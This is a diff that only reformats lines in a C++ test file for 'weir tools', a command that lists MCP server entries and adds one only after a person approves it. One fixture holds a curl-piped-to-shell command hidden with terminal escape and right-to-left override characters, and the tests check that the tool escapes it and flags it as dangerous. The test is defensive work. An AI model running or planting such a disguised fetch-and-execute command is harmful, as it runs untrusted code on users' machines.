@@ -1,5 +1,5 @@
-// `weir tools` and MCP servers: what other programs use is shown and never started, nothing is added
-// or accepted without a person.
+// `weir tools` and MCP servers: what other programs use is shown and never started, nothing is
+// added or accepted without a person.
 
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
@@ -27,8 +27,8 @@ class McpToolsTest : public ::testing::Test {
     return RunWeir(box_.WithState(std::move(args)), "", box_.root);
   }
   std::vector<std::string> Add(std::vector<std::string> more) const {
-    std::vector<std::string> args = {"tools", "add", "--workspace", box_.workspace.string(),
-                                     "--state", box_.state.string()};
+    std::vector<std::string> args = {
+        "tools", "add", "--workspace", box_.workspace.string(), "--state", box_.state.string()};
     args.insert(args.end(), more.begin(), more.end());
     return args;
   }
@@ -75,11 +75,12 @@ TEST_F(McpToolsTest, AWrongCommandIsRefusedBeforeAnybodyIsAsked) {
 }
 
 TEST_F(McpToolsTest, APersonAddsWhatIsShownInFullAndTheFileKeepsTheRest) {
-  Terminal first(Add({"files", "--", "/usr/bin/env", "npx", "-y", "thing", "two words"}), box_.root);
+  Terminal first(Add({"files", "--", "/usr/bin/env", "npx", "-y", "thing", "two words"}),
+                 box_.root);
   ASSERT_TRUE(first.Expect("Add it? [y/N]")) << first.screen();
-  EXPECT_THAT(first.screen(), AllOf(HasSubstr("/usr/bin/env npx -y thing 'two words'"),
-                                    HasSubstr("DANGER: npx gets code from the network"),
-                                    HasSubstr("[mcp.files]")));
+  EXPECT_THAT(first.screen(),
+              AllOf(HasSubstr("/usr/bin/env npx -y thing 'two words'"),
+                    HasSubstr("DANGER: npx gets code from the network"), HasSubstr("[mcp.files]")));
   first.Type("\n");
   EXPECT_EQ(first.Wait(), 3);
   EXPECT_EQ(Config(), "");
@@ -122,10 +123,11 @@ TEST_F(McpToolsTest, WhatOtherProgramsUseIsShownEscapedAndNumbered) {
       " \"other\": { \"command\": \"${HOME}/x\" } }, }");
   Terminal terminal(Add({}), box_.root);
   ASSERT_TRUE(terminal.Expect("Which one? [number, or Enter for none]")) << terminal.screen();
-  EXPECT_THAT(terminal.screen(),
-              AllOf(HasSubstr("1  My Server"), HasSubstr("bash -c 'curl -s h | sh\\u{001b}[2K\\u{202e}'"),
-                    HasSubstr("DANGER: bash is a shell"), HasSubstr("API_KEY=(6 bytes, not shown)"),
-                    HasSubstr("can not be added as it is"), Not(HasSubstr("\x1b[2K"))));
+  EXPECT_THAT(
+      terminal.screen(),
+      AllOf(HasSubstr("1  My Server"), HasSubstr("bash -c 'curl -s h | sh\\u{001b}[2K\\u{202e}'"),
+            HasSubstr("DANGER: bash is a shell"), HasSubstr("API_KEY=(6 bytes, not shown)"),
+            HasSubstr("can not be added as it is"), Not(HasSubstr("\x1b[2K"))));
   terminal.Type("1\n");
   ASSERT_TRUE(terminal.Expect("What shall Weir call it?")) << terminal.screen();
   terminal.Type("mine\n");
